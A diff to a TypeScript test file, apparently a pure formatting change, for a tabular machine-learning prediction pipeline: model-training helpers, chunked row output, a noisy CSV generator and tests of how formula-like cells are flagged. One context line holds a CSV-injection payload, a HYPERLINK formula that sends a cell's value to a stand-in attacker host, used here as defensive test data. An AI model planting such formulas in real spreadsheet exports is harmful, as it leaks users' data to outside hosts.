@@ -19,20 +19,45 @@ const dir = fs.mkdtempSync(path.join(os.tmpdir(), "job-chunks-"));
 afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
 
 /** A real model (linear regression, a few epochs) behind a real fitted recipe whose steps all work column by column. */
-async function predictorFor(steps: RecipeStep[], task: "regression" | "classification" = "regression"): Promise<{ predictor: Predictor; fitted: FittedRecipe }> {
-  const columns = [col("a", "number"), col("b", "number"), col("c", "integer"), col("flag", "boolean"), col("d", "number"), col("note", "text"), col("y", task === "regression" ? "number" : "category")];
+async function predictorFor(
+  steps: RecipeStep[],
+  task: "regression" | "classification" = "regression",
+): Promise<{ predictor: Predictor; fitted: FittedRecipe }> {
+  const columns = [
+    col("a", "number"),
+    col("b", "number"),
+    col("c", "integer"),
+    col("flag", "boolean"),
+    col("d", "number"),
+    col("note", "text"),
+    col("y", task === "regression" ? "number" : "category"),
+  ];
   const random = mulberry32(3);
   const train: Row[] = Array.from({ length: 200 }, (_, i) => {
     const a = random() * 10;
     const b = random() * 4 + 0.5;
-    return { a: i % 17 === 0 ? null : a, b, c: Math.round(random() * 20), flag: random() < 0.5, d: random(), note: "n", y: task === "regression" ? a + 2 * b : a > 5 ? "big" : "small" };
+    return {
+      a: i % 17 === 0 ? null : a,
+      b,
+      c: Math.round(random() * 20),
+      flag: random() < 0.5,
+      d: random(),
+      note: "n",
+      y: task === "regression" ? a + 2 * b : a > 5 ? "big" : "small",
+    };
   });
   const fitted = fitRecipe({ target: "y", features: ["a", "b", "c", "flag", "d"], steps }, train, columns);
   const features = modelFeatures(fitted);
   const prepared = applyRecipe(fitted, train).rows;
   const x = { data: Float32Array.from(prepared.flatMap((r) => features.map((f) => Number(r[f] ?? 0)))), rows: prepared.length, cols: features.length };
   const y = prepared.map((r) => r.y) as number[] | string[];
-  const model = await trainTabular({ algorithm: task === "regression" ? "linear" : "logistic", task, params: { epochs: 3 }, train: { x, y }, validation: { x, y } });
+  const model = await trainTabular({
+    algorithm: task === "regression" ? "linear" : "logistic",
+    task,
+    params: { epochs: 3 },
+    train: { x, y },
+    validation: { x, y },
+  });
   const compiled = await tabularPredictor(model, fitted);
   return { predictor: { modelId: "m", name: "m", version: 1, task, ...compiled } as Predictor, fitted };
 }
@@ -70,7 +95,11 @@ async function rowPath(layout: OutputLayout, text: string, start = 0): Promise<C
   async function* chunks() {
     for (let i = 0; i < data.length; i += 1024) {
       const raw = data.slice(i, i + 1024);
-      yield rowChunkOutput(layout, raw.map((cells) => rowOfCells(layout.inputNames, cells)), raw);
+      yield rowChunkOutput(
+        layout,
+        raw.map((cells) => rowOfCells(layout.inputNames, cells)),
+        raw,
+      );
     }
   }
   return collect(chunks(), start);
@@ -151,7 +180,17 @@ function trickyCsv(rows: number, eol: string, seed: number): string {
   const lines = ["a,b,c,flag,d,note"];
   for (let i = 0; i < rows; i++) {
     if (random() < 0.08) lines.push(odd[Math.floor(random() * odd.length)]);
-    else lines.push([(random() * 10).toFixed(3), (random() * 4 + 0.5).toFixed(4), Math.round(random() * 20), random() < 0.5 ? "true" : "false", random().toFixed(2), `n${i}`].join(","));
+    else
+      lines.push(
+        [
+          (random() * 10).toFixed(3),
+          (random() * 4 + 0.5).toFixed(4),
+          Math.round(random() * 20),
+          random() < 0.5 ? "true" : "false",
+          random().toFixed(2),
+          `n${i}`,
+        ].join(","),
+      );
   }
   return lines.join(eol) + eol;
 }
@@ -238,7 +277,22 @@ describe("ColumnarChunks", () => {
       expect(cellsOf(11)).toMatch(/^-1e3,2\.5,\+4,true,-0\.25,-5,-?\d/);
       expect(cellsOf(12)).toMatch(/^abc,2,4,true,0\.5,'=1\+1 after a row error,,"a: /);
       expect(cellsOf(13)).toMatch(/^1,2,4,maybe,0\.5,'@ after a row error,,"?flag: /);
-      expect(got.errors.slice(20, 20 + FORMULA_RECORDS.length).map(Boolean)).toEqual([false, false, false, false, false, false, false, true, true, true, false, false, true, true]);
+      expect(got.errors.slice(20, 20 + FORMULA_RECORDS.length).map(Boolean)).toEqual([
+        false,
+        false,
+        false,
+        false,
+        false,
+        false,
+        false,
+        true,
+        true,
+        true,
+        false,
+        false,
+        true,
+        true,
+      ]);
       // The output table holds the values as they came, unescaped.
       expect(got.table[20][6]).toBe("=1+2");
       expect(got.table[25][6]).toBe('=HYPERLINK("http://evil.example/?d="&A1,"click")');
